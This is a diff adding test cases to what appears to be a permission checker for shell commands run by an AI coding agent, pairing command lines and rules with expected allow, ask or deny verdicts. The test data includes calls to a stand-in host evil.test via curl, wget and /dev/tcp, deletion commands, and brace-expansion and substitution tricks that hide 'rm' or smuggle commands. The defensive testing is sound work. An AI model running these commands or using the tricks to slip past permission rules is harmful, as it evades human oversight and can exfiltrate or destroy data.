@@ -41,6 +41,9 @@ SKIP = ["--dangerously-skip-permissions"]
         ("tar --to-command=sh -xf a", ["tar --to-command=sh -xf a"], "allow"),
         ("tar --to-command=sh -xf a", ["regex:tar .*"], "allow"),
         ("git log $(whoami)", ["regex:git .*"], "allow"),
+        ("git -c core.pager=less log", ["regex:git .*"], "allow"),
+        ("sudo rm $(x)", ["regex:sudo .*"], "ask"),
+        ("find . -exec rm {} +", ["regex:find .*"], "ask"),
         ("git log $(whoami); rm x", ["regex:git .*"], "ask"),
         ("git log $(whoami) | sh", ["regex:git .*"], "ask"),
         ("git log\nrm x $(id)", ["regex:git (.|\n)*"], "ask"),
@@ -71,6 +74,24 @@ SKIP = ["--dangerously-skip-permissions"]
         ("perf stat make", ["perf", "make"], "ask"),
         ("npm run build -- --watch", ["npm run build"], "allow"),
         ("npm run 'build -- x'", ["npm run build"], "ask"),
+        ("echo x > {a,b}", ["echo"], "ask"),
+        ("echo x > {a..a}", ["echo"], "ask"),
+        ("echo {a..a}", ["echo"], "ask"),
+        ("echo x | tee >(cat)", ["*"], "allow"),
+        ("cat < <(ls)", ["*"], "allow"),
+        ("cat < /dev/tcp/h/80", ["cat < /dev/tcp/h/80"], "allow"),
+        ("find . -delete", ["find . -delete"], "allow"),
+        ("find . -delete", ["*"], "ask"),
+        ("echo x > $F", ["echo x > $F"], "allow"),
+        ("npm uninstall x", ["npm"], "allow"),
+        ("npm --foo bar exec y", ["npm"], "ask"),
+        ("FILE=a; cat $FILE", ["cat"], "allow"),
+        ("FILE=a cat b", ["cat"], "ask"),
+        ("COMPOSE_FILE=a; docker compose up", ["docker"], "ask"),
+        ("env FOO=1 git status", ["git"], "allow"),
+        ("wget --spider https://a.test", ["wget"], "allow"),
+        ("sed '1i\\\nenter' a", ["sed"], "allow"),
+        ("sed '1i\\\\\ne ls' a", ["sed"], "ask"),
     ],
 )  # fmt: skip
 @pytest.mark.requirement("B-003", "X-009")
@@ -113,6 +134,11 @@ def test_what_an_allow_covers(line: str, allow: list[str], expected: str) -> Non
         ("echo 'rm x' > s; sh s", "rm", "ask"),
         ("npx eslint src", "rm", "allow"),
         ("git commit -m 'rm x'", "rm", "allow"),
+        ("r{m..m} x", "rm", "deny"),
+        ("{rm,x}", "rm", "deny"),
+        ("awk '!seen[$0]++' a", "rm", "allow"),
+        ("vim -c '!rm x' a", "rm", "ask"),
+        ("export PATH=$PWD/bin:$PATH", "rm", "allow"),
     ],
 )
 @pytest.mark.requirement("B-004", "X-009")
@@ -171,6 +197,25 @@ def test_an_ask_of_a_rule_does_not_hide_one_that_a_deny_stands_behind() -> None:
         ("tar -cf src/keep/x a", "write_file(src/keep)", "deny"),
         ("git log -- src/keep", "write_file(src/keep)", "allow"),
         ("cd nosuch; touch ../keep/x", "write_file(/keep)", "deny"),
+        ("echo x > secre{t..t}/y", "read_file(secret)", "deny"),
+        ("cat < /dev/tcp/evil.test/80", "read_url(evil.test)", "deny"),
+        ("curl evil.test", "read_url(evil.test)", "deny"),
+        ("curl -sSL -o out x.evil.test:8080/a", "read_url(evil.test)", "deny"),
+        ("curl --url=evil.test", "read_url(evil.test)", "deny"),
+        ("curl me@evil.test", "read_url(evil.test)", "deny"),
+        ("wget -qO- EVIL.test.", "read_url(evil.test)", "deny"),
+        ("http POST evil.test a=b", "read_url(evil.test)", "deny"),
+        ("echo evil.test | xargs curl", "read_url(evil.test)", "deny"),
+        ("curl --retry-all evil.test", "read_url(evil.test)", "ask"),
+        ("curl -x evil.test ok.test", "read_url(evil.test)", "ask"),
+        ("curl {evil,ok}.test", "read_url(evil.test)", "deny"),
+        ("curl '{evil,ok}.test'", "read_url(evil.test)", "ask"),
+        ("curl $URL", "read_url(evil.test)", "ask"),
+        ("curl ok.test", "read_url(evil.test)", "allow"),
+        ("curl -d '{\"a\": 1}' -H 'A: b' --data @a.json https://ok.test", "read_url(evil.test)", "allow"),
+        ('curl -H "A: $T" https://ok.test', "read_url(evil.test)", "allow"),
+        ("http :8000/a b=c", "read_url(evil.test)", "allow"),
+        ("grep evil.test a", "read_url(evil.test)", "allow"),
     ],
 )
 def test_files_and_addresses_that_a_command_names_are_tested_too(line: str, deny: str, expected: str) -> None:
@@ -192,6 +237,28 @@ def test_a_line_that_a_person_wrote_down_is_not_asked_about_because_a_deny_may_a
     assert verdict("command", line, allow=[f"command({line})"], deny=deny) == "allow"
     assert verdict("command", line, allow=[f"command({line})"], deny=["command(*)"]) == "deny"
     assert verdict("command", line, allow=[f"command({line})"], ask=["command(*)"]) == "ask"
+
+
+@pytest.mark.parametrize(
+    ("line", "offered"),
+    [
+        ("ls | sed -n '1,5p'", ("command(ls | sed -n '1,5p')",)),
+        ("ls | sed -n 1,5p", ("command(ls)", "command(sed -n 1,5p)")),
+        ("git -C $R status; ls", ("command(git -C $R status; ls)",)),
+        ("find . -delete", ("command(find . -delete)",)),
+        ("find . -delete > /srv/x", ("command(find . -delete > /srv/x)", "write_file(/srv/x)")),
+        ("cat a > /dev/fd/2", ()),
+    ],
+)
+def test_what_is_offered_is_what_would_let_the_line_run(line: str, offered: tuple[str, ...]) -> None:
+    assert judged("command", line).remedies == offered
+
+
+def test_an_unnamed_file_is_no_matter_of_the_very_line_where_an_ask_rule_speaks() -> None:
+    made = judged("command", "cat $F", allow=["command(cat)"], deny=["read_file(secret)"], ask=["command(cat)"])
+    assert (made.decision, made.remedies) == ("ask", ())
+    made = judged("command", "cat $F", allow=["command(cat)"], deny=["read_file(secret)"])
+    assert (made.decision, made.remedies) == ("ask", ("command(cat $F)",))
 
 
 def test_a_line_needs_what_its_redirections_need() -> None:
